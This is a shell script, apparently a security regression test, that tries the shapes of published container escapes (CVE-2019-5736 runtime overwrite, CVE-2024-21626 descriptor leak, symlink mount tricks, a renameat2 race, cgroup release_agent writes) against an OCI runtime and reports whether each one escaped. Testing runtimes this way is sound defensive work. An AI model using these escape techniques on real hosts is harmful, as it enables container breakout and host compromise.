# The shapes of published escapes, tried on a runtime of the OCI command line: escapes.sh RUNTIME… (as in "edgehost oci",
# or runc). Prints a line "ID kept|escaped said=…" for each: escaped when the container reached what is only the host's.
# Needs: busybox, gcc, the runtime, root.
set -u
runtime=("$@")
work=$(mktemp -d)
oci() { "${runtime[@]}" --root "$work/state" "$@"; }
trap 'for d in "$work"/state/*; do [ ! -d "$d" ] || oci delete -f "${d##*/}" 2> /dev/null; done; find /sys/fs/cgroup -path "*/edgehost-escapes*" -type d -delete 2> /dev/null; rm -rf "$work"' EXIT

# What must not be reached: a word that is in no container, and a directory in which nothing may appear.
secret=word-of-the-host-$$-$RANDOM
mkdir -p "$work/state" "$work/host"; echo "$secret" > "$work/host/secret"; chmod 700 "$work/host"

# fresh ROOT: a root of busybox alone
fresh() {
  rm -rf "$1"; mkdir -p "$1"/{bin,etc,proc,sys,dev,tmp,vol}; cp "$(command -v busybox)" "$1/bin/busybox"
  for applet in sh cat head tail ls echo true grep mount unshare mkdir touch sleep readlink wc id dd mknod umount; do ln -s busybox "$1/bin/$applet"; done
}
root=$work/root; fresh "$root"

# bundle COMMAND: as root in all namespaces, with the capabilities and paths that Docker gives; later changes by sed
caps='["CAP_CHOWN","CAP_DAC_OVERRIDE","CAP_FSETID","CAP_FOWNER","CAP_MKNOD","CAP_NET_RAW","CAP_SETGID","CAP_SETUID","CAP_SETFCAP","CAP_SETPCAP","CAP_NET_BIND_SERVICE","CAP_SYS_CHROOT","CAP_KILL","CAP_AUDIT_WRITE"]'
bundle() {
  mkdir -p "$work/b"
  cat > "$work/b/config.json" <<JSON
{ "ociVersion": "1.0.2", "hostname": "inside", "root": { "path": "$root", "readonly": false },
  "process": { "cwd": "/", "args": ["sh", "-c", "$1"], "env": ["PATH=/bin"], "noNewPrivileges": true, "user": { "uid": 0, "gid": 0 },
    "capabilities": { "bounding": $caps, "effective": $caps, "permitted": $caps } },
  "mounts": [
    { "destination": "/proc", "type": "proc", "source": "proc", "options": ["nosuid", "noexec", "nodev"] },
    { "destination": "/dev", "type": "tmpfs", "source": "tmpfs", "options": ["nosuid", "mode=755", "size=64k"] },
    { "destination": "/sys", "type": "sysfs", "source": "sysfs", "options": ["nosuid", "noexec", "nodev", "ro"] },
    { "destination": "/sys/fs/cgroup", "type": "cgroup", "source": "cgroup", "options": ["nosuid", "noexec", "nodev", "ro"] } ],
  "linux": { "cgroupsPath": "/edgehost-escapes/c", "resources": { "devices": [{ "allow": false, "access": "rwm" }] },
    "namespaces": [{ "type": "pid" }, { "type": "mount" }, { "type": "uts" }, { "type": "ipc" }, { "type": "network" }, { "type": "cgroup" }],
    "maskedPaths": ["/proc/keys", "/proc/kcore"], "readonlyPaths": ["/proc/sys", "/proc/sysrq-trigger"] } }
JSON
}
change() { sed -i "$1" "$work/b/config.json"; }
run() { timeout 20 "${runtime[@]}" --root "$work/state" run -b "$work/b" c < /dev/null 2>&1; oci delete -f c > /dev/null 2>&1; }
# started: by create and start, after which no process of the runtime is left
started() {
  rm -f "$work/out"; timeout 20 "${runtime[@]}" --root "$work/state" create -b "$work/b" c < /dev/null > "$work/out" 2>&1
  oci start c >> "$work/out" 2>&1; for i in $(seq 50); do oci state c 2> /dev/null | grep -q '"status": "running"' || break; sleep 0.1; done
  oci delete -f c > /dev/null 2>&1; cat "$work/out"
}
# verdict ID OUTPUT: escaped when the output has the word of the host, or something is in the host's directory
verdict() {
  local how=kept
  if grep -q "$secret" <<<"$2" || [ "$(ls -A "$work/host")" != secret ] || [ "$(cat "$work/host/secret")" != "$secret" ]; then how=escaped; fi
  find "$work/host" -mindepth 1 ! -name secret -delete; echo "$secret" > "$work/host/secret"
  echo "$1 $how said=$(tr '\n' '|' <<<"$2" | head -c 300)"
}
say() { echo "$1 $2 said=$(tr '\n' '|' <<<"$3" | head -c 300)"; }

# The runtime's own file, by way of a program that is the runtime: /proc/self/exe with a library of the image.
mkdir -p "$root/lib"
cat > "$work/exe.c" <<'C'
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
__attribute__((constructor)) static void begin(void)
{
    char name[64], self[] = "/proc/self/exe";
    int held = open(self, O_RDONLY), file = open(self, O_WRONLY);
    if (file < 0 && errno == ETXTBSY)
    {
        /* Busy only as long as it runs: who holds it writes to it from the next program. */
        snprintf(name, sizeof name, "exec 4<&%d; sleep 1; (: >> /proc/self/fd/4) && echo opened again", held);
        fcntl(held, F_SETFD, 0);
        unsetenv("LD_PRELOAD");
        execl("/bin/sh", "sh", "-c", name, (char *)0);
    }
    printf("open for writing: %s\n", file < 0 ? strerror(errno) : "opened");
    fflush(stdout);
    _exit(0);
}
C
sed -i 's/#include <string.h>/#include <stdlib.h>\n&/' "$work/exe.c"
gcc -shared -fPIC -o "$root/lib/exe.so" "$work/exe.c"
program=$(readlink -f "$(command -v "${runtime[0]}")")
for library in $(ldd "$program" | grep -o '/[^ ]*'); do mkdir -p "$root${library%/*}"; cp -L "$library" "$root$library"; done
for library in $(ldd "$root/lib/exe.so" | grep -o '/[^ ]*'); do mkdir -p "$root${library%/*}"; cp -L "$library" "$root$library"; done
before=$(sha256sum "$program")
bundle true; change 's#"args": \[.*\], "env": \["PATH=/bin"#"args": ["/proc/self/exe", "version"], "env": ["PATH=/bin", "LD_PRELOAD=/lib/exe.so"#'
out=$(started); how=kept; [ "$(sha256sum "$program")" = "$before" ] && ! grep -q opened <<<"$out" || how=escaped
say CVE-2019-5736 $how "$out"
printf '#!/proc/self/exe\n' > "$root/bin/enter"; chmod 755 "$root/bin/enter"
change 's#"/proc/self/exe", "version"#"/bin/enter"#'
out=$(started); how=kept; [ "$(sha256sum "$program")" = "$before" ] && ! grep -q opened <<<"$out" || how=escaped
say CVE-2019-5736-script $how "$out"

# A working directory that is one of the runtime's descriptors.
for number in $(seq 3 20); do
  bundle "cat ../../../../../../../../../$work/host/secret ../../../../../../../../../../../../$work/host/secret"
  change "s#\"cwd\": \"/\"#\"cwd\": \"/proc/self/fd/$number\"#"
  all=$(run); out="${out:-}$all"; grep -q "$secret" <<<"$all" && break
done
verdict CVE-2024-21626 "$all"

# The directories that the runtime mounts on are links to elsewhere in the image.
evil=$work/evil; fresh "$evil"; rmdir "$evil/proc" "$evil/sys"; mkdir "$evil/fake"; ln -s /fake "$evil/proc"; ln -s "/../../../../../../..$work/host" "$evil/sys"
bundle 'ls /fake /sys | head -n 3; cat /sys/secret; echo x > /proc/self/attr/exec && echo labelled'; change "s#\"path\": \"$root\"#\"path\": \"$evil\"#"
verdict CVE-2023-27561 "$(run)"

# A volume on /proc: what is written there is not the kernel's, and what should be hidden is.
mkdir -p "$work/fakeproc/self/attr" "$work/fakeproc/sys/kernel"; echo unwritten > "$work/fakeproc/sys/kernel/shmmni"
bundle 'cat /proc/sys/kernel/shmmni'
change "s#\"mounts\": \[#&{ \"destination\": \"/proc\", \"type\": \"bind\", \"source\": \"$work/fakeproc\", \"options\": [\"rbind\"] },#; s#{ \"destination\": \"/proc\", \"type\": \"proc\"[^}]*},##; s#\"linux\": {#&\"sysctl\": { \"kernel.shmmni\": \"4096\" },#"
out=$(run); how=kept; [ "$(cat "$work/fakeproc/sys/kernel/shmmni")" = unwritten ] && ! grep -q unwritten <<<"$out" || how=escaped
say CVE-2019-16884 $how "$out"

# A volume in /proc whose files are links: the write of a setting goes where the attacker wants.
mkdir -p "$work/fakesys"; ln -s ../../../../../proc/self/comm "$work/fakesys/shmmni"; ln -s /proc/self/comm "$work/fakesys/domainname"
bundle 'head -n 1 /proc/self/comm'
change "s#{ \"destination\": \"/dev\", \"type\"#{ \"destination\": \"/proc/sys/kernel\", \"type\": \"bind\", \"source\": \"$work/fakesys\", \"options\": [\"rbind\"] }, &#; s#\"linux\": {#&\"sysctl\": { \"kernel.shmmni\": \"4096\" },#"
out=$(run); how=kept; ! grep -qE '^(4096|sh)$' <<<"$out" || how=escaped
say CVE-2025-52881 $how "$out"
evil=$work/evil3; fresh "$evil"; rmdir "$evil/tmp"; ln -s /proc/sys/kernel "$evil/tmp"
bundle 'head -n 1 /proc/self/comm'; change "s#\"path\": \"$root\"#\"path\": \"$evil\"#"
change "s#{ \"destination\": \"/dev\", \"type\"#{ \"destination\": \"/tmp\", \"type\": \"bind\", \"source\": \"$work/fakesys\", \"options\": [\"rbind\"] }, &#; s#\"linux\": {#&\"sysctl\": { \"kernel.shmmni\": \"4096\" },#"
out=$(run); how=kept; ! grep -qE '^(4096|sh)$' <<<"$out" || how=escaped
say CVE-2025-52881-link $how "$out"

# The null device that hides paths is a link of the image: a file that should be hidden becomes one that is to be written.
evil=$work/evil2; fresh "$evil"; echo "$secret" > "$evil/etc/target"; ln -s /etc/target "$evil/dev/null"
bundle 'cat /proc/keys > /tmp/seen'; change "s#\"path\": \"$root\"#\"path\": \"$evil\"#; s#{ \"destination\": \"/dev\", \"type\"[^}]*},##"
out=$(run); verdict CVE-2025-31133 "$out $(cat "$evil/tmp/seen" 2> /dev/null)"

# Directories of a volume that two containers share are swapped for links while the runtime makes and mounts beneath them.
mkdir -p "$work/shared/real"
cat > "$work/swap.c" <<'C'
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/syscall.h>
#include <unistd.h>
int main(int count, char **names)
{
    for (;;) syscall(SYS_renameat2, AT_FDCWD, names[1], AT_FDCWD, names[2], 2);
    return count;
}
C
gcc -O2 -o "$work/swap" "$work/swap.c"; ln -s "/../../../../../../../..$work/host" "$work/shared/link"
"$work/swap" "$work/shared/real" "$work/shared/link" & swap=$!
all=
for try in $(seq "${TRIES:-60}"); do
  bundle 'cat /vol/real/secret /vol/link/secret /vol/real/in/secret'
  change "s#{ \"destination\": \"/dev\", \"type\"#{ \"destination\": \"/vol\", \"type\": \"bind\", \"source\": \"$work/shared\", \"options\": [\"rbind\"] }, { \"destination\": \"/vol/real/made$try/deep\", \"type\": \"tmpfs\", \"source\": \"tmpfs\", \"options\": [\"mode=700\"] }, &#; s#\"cwd\": \"/\"#\"cwd\": \"/vol/real/cwd$try\"#"
  all=$all$(run); [ "$(ls -A "$work/host")" = secret ] || break
done
kill $swap; wait $swap 2> /dev/null
verdict CVE-2024-45310 "$(head -c 250 <<<"$all") made: $(ls -A "$work/host" | tr '\n' ' ')"
grep -q " $work/host" /proc/self/mounts && how=escaped || how=kept; say CVE-2021-30465 $how "$(grep -o " $work/[^ ]*" /proc/self/mounts)"

# A program that is called when a cgroup is empty runs on the host; so does what can make cgroups of its own.
bundle 'mkdir /tmp/cg; mount -t cgroup -o memory cgroup /tmp/cg && echo mounted; for d in /sys/fs/cgroup /sys/fs/cgroup/*; do [ ! -e $d/release_agent ] || { echo /bin/evil > $d/release_agent && echo made; }; mkdir $d/x; [ ! -e $d/x/cgroup.procs ] || echo made; done'
out=$(run); how=kept; ! grep -qE '^(mounted|made)$' <<<"$out" || how=escaped
say CVE-2022-0492 $how "$out"

# Without a cgroup namespace the host's hierarchy is what is mounted.
bundle 'for d in /sys/fs/cgroup /sys/fs/cgroup/*; do mkdir $d/x; [ ! -e $d/x/cgroup.procs ] || echo made; [ ! -e $d/edgehost-escapes ] || echo host; done'
change 's#, { "type": "cgroup" }##'
out=$(run); how=kept; ! grep -qE '^(made|host)$' <<<"$out" || how=escaped
say CVE-2023-25809 $how "$out"

# Capabilities that a program inherits although nobody gave it any.
bundle 'grep -E Cap.nh /proc/self/status'; out=$(run); how=kept; grep -qE '^CapInh:.*0000000000000000' <<<"$out" || how=escaped; say CVE-2022-24769 $how "$out"

# Groups of who started the runtime.
bundle 'id -G'; out=$(run); how=kept; [ "$(tail -n 1 <<<"$out")" = 0 ] || how=escaped; say CVE-2023-25173 $how "$out"

# Descriptors and keys of the host.
exec 9< "$work/host/secret"
bundle 'ls /proc/self/fd; cat <&9; cat /proc/keys | wc -c'; verdict descriptors "$(run)"; exec 9<&-
